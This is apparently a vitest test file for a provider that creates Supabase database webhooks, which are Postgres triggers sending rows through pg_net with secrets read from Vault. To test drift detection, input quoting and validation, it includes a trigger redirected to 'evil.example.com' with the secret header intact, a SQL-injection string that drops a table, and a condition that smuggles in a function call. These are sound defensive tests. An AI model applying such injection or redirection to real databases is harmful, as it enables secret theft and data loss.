import { describe, expect, it } from "vitest";
import { installJobstack } from "../../../sql/jobstack/install.ts";
import { useTestDatabase } from "../../../test/support/use-test-database.ts";
import { describeContract } from "../contract.ts";
import { quoteIdentifier as quoted } from "../postgres/identifier.ts";
import { joinNames } from "../postgres/qualified-name.ts";
import { useProvider } from "../testing/use-provider.ts";

const CANARY = "canary-webhook-secret-91fe";
const URL = "https://example.com/functions/v1/process-queue";

/** As Supabase writes it when webhooks are switched on; what it sends is not looked at here. */
const SUPABASE_FUNCTIONS = `
  create schema supabase_functions;
  grant usage on schema supabase_functions to postgres;
  create function supabase_functions.http_request() returns trigger language plpgsql security definer
    set search_path = 'supabase_functions' as $$ begin return new; end $$;
  grant execute on function supabase_functions.http_request() to postgres;
`;

const database = useTestDatabase(async ({ pool, admin }) => {
  await admin.query(`
    create extension pg_net with schema extensions;
    create extension if not exists supabase_vault with schema vault;
    ${SUPABASE_FUNCTIONS}
  `);
  await pool.query(`
    create schema shop;
    create table shop.queue (id int primary key, note text);
    select vault.create_secret('${CANARY}', 'HOOK_SECRET');
  `);
});
const run = async (sql: string, values: unknown[] = []) => (await database().pool.query(sql, values)).rows;
const admin = async (sql: string) => void (await database().admin.query(sql));
const at = (name: string) => ({ schema: "shop", table: "queue", name });

const handMade = (name: string, headers = '{"Content-type":"application/json"}') =>
  run(`create trigger "${name}" after insert on shop.queue for each row
         execute function supabase_functions.http_request('${URL}', 'POST', '${headers}', '{}', '5000')`);

describeContract({
  kind: "DatabaseWebhook",
  config: () => ({ databaseUrl: database().url }),
  inputs: (name) => ({
    ...at(name),
    events: ["UPDATE", "INSERT"],
    url: URL,
    headers: { "X-Source": "shop" },
    secretHeaders: { Authorization: { secret: "HOOK_SECRET", prefix: "Bearer " } },
    when: "new.id>0",
  }),
  id: (name) => joinNames(["shop", "queue", name]),
  changed: (name) => ({ ...at(name), events: ["DELETE"], url: `${URL}?v=2`, timeoutMs: 900, enabled: false }),
  identity: "name",
  // The function's name is longer.
  longestName: 57,
  outsideChanges: [
    {
      title: "it was disabled",
      make: async (name) => void (await run(`alter table shop.queue disable trigger ${quoted(name)}`)),
      facts: ["firing"],
      inputs: ["enabled"],
    },
    {
      title: "its address was changed",
      make: async (name) =>
        void (await run(`
          create or replace trigger "${name}" after insert or update on shop.queue for each row when (new.id > 0)
          execute function shop."queue_${name}"('{"url":"https://evil.example.com","method":"POST","timeoutMs":5000,
            "headers":{"X-Source":"shop"},"secretHeaders":{"Authorization":{"secret":"HOOK_SECRET","prefix":"Bearer "}}}')`)),
      facts: ["arguments"],
      inputs: ["url"],
    },
    {
      title: "its condition was dropped, and an event added",
      make: async (name) =>
        void (await run(`
          do $$ begin execute (
            select replace(replace(replace(pg_get_triggerdef(oid), 'CREATE', 'CREATE OR REPLACE'),
                             'WHEN ((new.id > 0)) ', ''), 'INSERT OR', 'INSERT OR DELETE OR')
              from pg_trigger where tgname = '${name}'); end $$`)),
      facts: ["definition"],
      inputs: ["events[0]", "events[1]", "events[2]", "when"],
    },
    {
      title: "its trigger calls another function",
      make: async (name) =>
        void (await run(`
          do $$ begin execute (
            select replace(replace(pg_get_triggerdef(oid), 'CREATE', 'CREATE OR REPLACE'),
                           'shop.queue_${name}', 'supabase_functions.http_request')
              from pg_trigger where tgname = '${name}'); end $$`)),
      facts: ["definition", "function", "body", "settings", "owner", "execute", "comment"],
      inputs: ["function"],
    },
    {
      title: "its function was rewritten",
      make: async (name) =>
        void (await run(`
          create or replace function shop."queue_${name}"() returns trigger language plpgsql security definer
          set search_path = '' set client_min_messages = error as $$ begin return null; end $$`)),
      facts: ["body"],
    },
    {
      title: "its function lost its fixed search_path, its owner's rights and its comment",
      make: async (name) =>
        void (await run(`
          alter function shop."queue_${name}"() reset search_path security invoker stable;
          comment on function shop."queue_${name}"() is null`)),
      facts: ["settings", "securityDefiner", "attributes", "comment"],
    },
    {
      title: "its function was opened to everyone",
      make: async (name) => void (await run(`grant execute on function shop."queue_${name}"() to public`)),
      facts: ["execute"],
    },
  ],
  remove: async (name) => void (await run(`drop trigger "${name}" on shop.queue`)),
  makeForeign: async (name) => void (await handMade(name)),
  notImported: ["when", "events"],
});

describe("DatabaseWebhook", () => {
  const provider = useProvider("DatabaseWebhook", () => ({ databaseUrl: database().url }));
  const table = (name: string) => run(`create table shop."${name}" (id int primary key, note text)`);
  const on = (name: string, more = {}) => ({
    schema: "shop",
    table: name,
    name: "hook",
    events: ["INSERT"],
    url: URL,
    ...more,
  });
  /** No worker runs in this database, so what is queued stays. */
  const queued = async () => {
    const rows = await run(`
      select method, url, headers, convert_from(body, 'UTF8')::jsonb as body, timeout_milliseconds
        from net.http_request_queue order by id`);
    await run("delete from net.http_request_queue");
    return rows;
  };

  it("sends what Supabase's own webhooks send for each event", async () => {
    await table("items");
    await provider.create(on("items", { events: ["INSERT", "UPDATE", "DELETE"], timeoutMs: 900 }));
    await queued();
    await run("insert into shop.items values (1, 'a'), (2, null)");
    await run("update shop.items set note = 'b' where id = 1");
    await run("delete from shop.items where id = 1");
    const about = { schema: "shop", table: "items" };
    const rows = await queued();
    expect(rows.map(({ body }) => body)).toEqual([
      { ...about, type: "INSERT", record: { id: 1, note: "a" }, old_record: null },
      { ...about, type: "INSERT", record: { id: 2, note: null }, old_record: null },
      { ...about, type: "UPDATE", record: { id: 1, note: "b" }, old_record: { id: 1, note: "a" } },
      { ...about, type: "DELETE", record: null, old_record: { id: 1, note: "b" } },
    ]);
    expect(rows[0]).toMatchObject({
      method: "POST",
      url: URL,
      headers: { "Content-Type": "application/json" },
      timeout_milliseconds: 900,
    });
  });

  it("reads secrets from Vault for each request, and keeps them out of the catalog", async () => {
    await table("keyed");
    const secretHeaders = {
      Authorization: { secret: "HOOK_SECRET", prefix: "Bearer " },
      "X-Key": { secret: "HOOK_SECRET" },
    };
    await provider.create(on("keyed", { headers: { "X-Plain": 'it\'s "plain" \\' }, secretHeaders }));
    await queued();
    await run("insert into shop.keyed values (1)");
    const [sent] = await queued();
    expect(sent?.headers).toEqual({
      "Content-Type": "application/json",
      Authorization: `Bearer ${CANARY}`,
      "X-Key": CANARY,
      "X-Plain": 'it\'s "plain" \\',
    });
    const catalog = await run(`
      select pg_get_triggerdef(t.oid) || pg_get_functiondef(t.tgfoid) as text
        from pg_trigger t where t.tgrelid = 'shop.keyed'::regclass`);
    expect(catalog[0]?.text).toContain("HOOK_SECRET");
    expect(catalog[0]?.text).not.toContain(CANARY);
  });

  it("sends a token in the place of the secret when it is to sign", async () => {
    await table("signed");
    const inputs = on("signed", { sign: { secret: "HOOK_SECRET" } });
    await expect(provider.create(inputs)).rejects.toThrow(
      'database webhook "shop.signed.hook": it is to sign, and the queue core is not installed in this database; declare new QueueCore(...) and let the webhook depend on it, or send the secret in secretHeaders',
    );
    await installJobstack(database().pool);
    await provider.create(inputs);
    await queued();
    await run("insert into shop.signed values (1)");
    const [sent] = await queued();
    const { Authorization } = (sent?.headers ?? {}) as Record<string, string>;
    const [, claims = ""] = (Authorization ?? "").split(".");
    expect(Authorization).toMatch(/^Bearer [\w-]+\.[\w-]+\.[\w-]+$/);
    expect(JSON.parse(Buffer.from(claims, "base64url").toString())).toMatchObject({
      iss: "jobstack",
      aud: "hook",
    });
    expect(JSON.stringify(sent)).not.toContain(CANARY);
  });

  it("sends nothing but the headers with GET, and nothing while it is disabled or its condition is false", async () => {
    await table("quiet");
    const state = await provider.create(on("quiet", { method: "GET", when: "new.note is not null" }));
    await queued();
    await run("insert into shop.quiet values (1, null), (2, 'b')");
    expect(await queued()).toMatchObject([{ method: "GET", url: URL, body: null }]);
    await provider.update(state, on("quiet", { enabled: false }));
    await run("insert into shop.quiet values (3, 'c')");
    expect(await queued()).toEqual([]);
  });

  it.each([
    ["a secret", "lost_secret", { secretHeaders: { "X-Key": { secret: "NOWHERE" } } }, ""],
    ["a secret to sign with", "lost_key", { sign: { secret: "NOWHERE" } }, ""],
    ["pg_net", "lost_net", {}, "alter function net.http_post rename to http_post_gone"],
    ["everything in its argument", "lost_argument", {}, "ARGUMENT"],
  ])("keeps the row, and tells the log, when %s is missing", async (_, name, more, breakage) => {
    await table(name);
    await provider.create(on(name, more));
    await queued();
    if (breakage === "ARGUMENT") {
      await run(`create or replace trigger hook after insert on shop.${name} for each row
                 execute function shop."${name}_hook"('no json')`);
    } else if (breakage !== "") await admin(breakage);
    // What is told to the log alone is told to this client as well.
    await run(`alter function shop."${name}_hook"() reset client_min_messages`);
    const client = await database().pool.connect();
    const told: string[] = [];
    const listen = ({ message }: { message?: string | undefined }) => told.push(message ?? "");
    client.on("notice", listen);
    try {
      await client.query("set client_min_messages = log");
      await client.query(`insert into shop.${name} values (1)`);
    } finally {
      client.off("notice", listen);
      client.release(true);
      if (name === "lost_net") await admin("alter function net.http_post_gone rename to http_post");
    }
    expect(await run(`select id from shop.${name}`)).toEqual([{ id: 1 }]);
    expect(await queued()).toEqual([]);
    expect(told.join()).toContain(`database webhook "hook" of shop.${name}: nothing sent: `);
  });

  it("lets a role write that may call neither the function nor Vault, which nobody else may call", async () => {
    await table("shared");
    await run("grant usage on schema shop to anon; grant insert on shop.shared to anon");
    await provider.create(on("shared", { secretHeaders: { "X-Key": { secret: "HOOK_SECRET" } } }));
    await queued();
    await run("begin; set local role anon; insert into shop.shared values (1); commit");
    expect(await queued()).toMatchObject([{ headers: { "X-Key": CANARY } }]);
    const [row] = await run(
      `select has_function_privilege('anon', 'shop.shared_hook()', 'execute') as allowed`,
    );
    expect(row).toEqual({ allowed: false });
  });

  it("takes over a webhook made by hand after an import, in place", async () => {
    await table("taken");
    const headers = `{"Content-type":"application/json","Authorization":"Bearer ${CANARY}"}`;
    await run(`create trigger hook after insert on shop.taken for each row
                 execute function supabase_functions.http_request('${URL}', 'POST', '${headers}', '{}', '1000')`);
    const imported = await provider.client.read("DatabaseWebhook", "shop.taken.hook");
    expect(imported?.inputs.values).toEqual({
      schema: "shop",
      table: "taken",
      name: "hook",
      function: "supabase_functions.http_request",
      events: ["INSERT"],
      url: URL,
      method: "POST",
      headers: { Authorization: "[not shown]" },
      timeoutMs: 1000,
      enabled: true,
    });
    expect(JSON.stringify(imported)).not.toContain(CANARY);
    if (imported === undefined) throw new Error("not imported");
    const wanted = on("taken", {
      secretHeaders: { Authorization: { secret: "HOOK_SECRET", prefix: "Bearer " } },
    });
    const { inputs } = await provider.client.check("DatabaseWebhook", wanted, [], imported.inputs);
    const { detailed } = await provider.client.diff("DatabaseWebhook", imported, inputs);
    expect(detailed).toEqual({
      function: "update",
      headers: "delete",
      secretHeaders: "add",
      timeoutMs: "update",
    });
    const state = await provider.client.update("DatabaseWebhook", imported, inputs);
    const found = await provider.client.read("DatabaseWebhook", state.id, state);
    expect((await provider.client.diff("DatabaseWebhook", found ?? state, inputs)).changed).toBe(false);
    const [row] = await run(
      "select count(*)::int as triggers, min(tgfoid::regproc::text) as calls from pg_trigger where tgrelid = 'shop.taken'::regclass",
    );
    expect(row).toEqual({ triggers: 1, calls: "shop.taken_hook" });
    expect(await run("select to_regproc('supabase_functions.http_request') is not null as kept")).toEqual([
      { kept: true },
    ]);
  });

  it("takes its function along when it gets another name, and when it is deleted", async () => {
    await table("renamed");
    const functions = async () =>
      (
        await run(
          "select proname from pg_proc where pronamespace = 'shop'::regnamespace and proname in ('renamed_hook', 'other') order by 1",
        )
      ).map(({ proname }) => proname);
    const state = await provider.create(on("renamed"));
    expect(await functions()).toEqual(["renamed_hook"]);
    const updated = await provider.update(state, on("renamed", { function: "other" }));
    expect(await functions()).toEqual(["other"]);
    await provider.client.delete("DatabaseWebhook", updated);
    expect(await functions()).toEqual([]);
  });

  it("replaces no function that somebody else made, unless it is told to", async () => {
    await table("guarded");
    await run("create function shop.mine() returns trigger language plpgsql as $$ begin return null; end $$");
    await expect(provider.create(on("guarded", { function: "mine" }))).rejects.toThrow(
      'database webhook "shop.guarded.hook": there is a function "shop.mine" that this stack did not make; set adopt: true to replace it, or give another name as function',
    );
    await expect(provider.create(on("guarded", { function: "mine", adopt: true }))).resolves.toBeDefined();
  });

  it("takes names and texts that need quoting", async () => {
    const name = `Odd "table". it's $function$`;
    await table(name.replaceAll('"', '""'));
    const hostile = "it's \\ \"$function$\" '; drop table shop.queue; --";
    const inputs = {
      ...on(name, { headers: { "X-Odd": hostile }, secretHeaders: { "X-Key": { secret: hostile } } }),
      name: 'process-queue. "it\'s"',
      function: 'Odd "function". it\'s',
      when: "new.note is distinct from 'it''s -- ) \"odd\"' -- really",
    };
    await run("select vault.create_secret('found', $1)", [hostile]);
    const state = await provider.create(inputs);
    const found = await provider.client.read("DatabaseWebhook", state.id, state);
    expect(found?.outputs.values.drift).toBeUndefined();
    await queued();
    await run(`insert into shop."${name.replaceAll('"', '""')}" values (1, 'a')`);
    expect(await queued()).toMatchObject([
      { headers: { "X-Odd": hostile, "X-Key": "found" }, body: { table: name, record: { id: 1 } } },
    ]);
    await provider.client.delete("DatabaseWebhook", state);
    expect(await run("select to_regclass('shop.queue') is not null as kept")).toEqual([{ kept: true }]);
  });

  it("warns of a secret that Vault does not have yet", async () => {
    await table("early");
    await provider.create(on("early", { secretHeaders: { "X-Key": { secret: "LATER" } } }));
    expect(provider.client.process.log()).toContain(
      'database webhook "shop.early.hook": Vault has no secret "LATER"; nothing is sent until it is there',
    );
  });

  it("says all that is wrong at once", async () => {
    expect(
      await provider.failures({
        ...on("t"),
        events: ["insert", "TRUNCATE"],
        url: "example.com/hook",
        method: "PUT",
        headers: { "a b": "x", "X-Two": "a\nb", "content-type": "text/plain" },
        secretHeaders: { "X-Key": { secret: "" } },
        timeoutMs: 0,
        when: "true) execute function evil(",
      }),
    ).toEqual({
      "events[0]": 'is no event; write "INSERT", "UPDATE" or "DELETE"',
      "events[1]": 'is no event; write "INSERT", "UPDATE" or "DELETE"',
      url: "is no address; write one that begins with https:// or http://",
      method: 'must be "POST", or "GET", which carries no row',
      'headers["a b"]': "is no name of a header",
      'headers["X-Two"]': "must be one line",
      'headers["content-type"]': "is always application/json; leave it out",
      'secretHeaders["X-Key"].secret': "must not be empty",
      timeoutMs: "must be at least 1",
      when: "has a parenthesis without its counterpart; write one whole expression",
    });
    expect(
      await provider.failures({
        ...on("t"),
        url: "https://me:pass@example.com",
        headers: { "X-One": "x", "x-one": "y" },
        events: ["INSERT", "INSERT"],
      }),
    ).toEqual({
      url: "holds a name or password that everybody could see; give it in secretHeaders",
      events: "names an event twice; name each once",
      'headers["x-one"]': "is given twice; give it once",
    });
    expect(
      await provider.failures({
        ...on("t"),
        headers: { "X-Key": "plain", authorization: "x" },
        secretHeaders: { "x-key": { secret: "S" } },
        sign: { secret: "S" },
      }),
    ).toEqual({
      'secretHeaders["x-key"]': "is among the headers as well; give it once",
      sign: "puts its token into Authorization, which is given as well; give one of the two",
    });
    expect(await provider.failures({ ...on("t".repeat(60)) })).toEqual({
      function: `would be "${"t".repeat(60)}_hook", 65 bytes long, and Postgres keeps 63; give a shorter one`,
    });
  });

  it("says what it lacks where pg_net, Vault or the table is missing", async () => {
    await expect(provider.create(on("nowhere"))).rejects.toThrow(
      'relation "shop.nowhere" does not exist [SQLSTATE 42P01]; correct the name, or let this resource depend on the one that makes it',
    );
    expect(await run("select from pg_proc where proname = 'nowhere_hook'")).toEqual([]);
    await table("bare");
    await admin("drop extension supabase_vault cascade");
    await expect(
      provider.create(on("bare", { secretHeaders: { "X-Key": { secret: "HOOK_SECRET" } } })),
    ).rejects.toThrow(
      'it sends a secret, and the extension supabase_vault is not installed; declare new Extension("vault"',
    );
    await admin("drop extension pg_net cascade");
    await expect(provider.create(on("bare"))).rejects.toThrow(
      'database webhook "shop.bare.hook": the extension pg_net is not installed; declare new Extension("net", { name: "pg_net" }) and let the webhook depend on it',
    );
  });
});
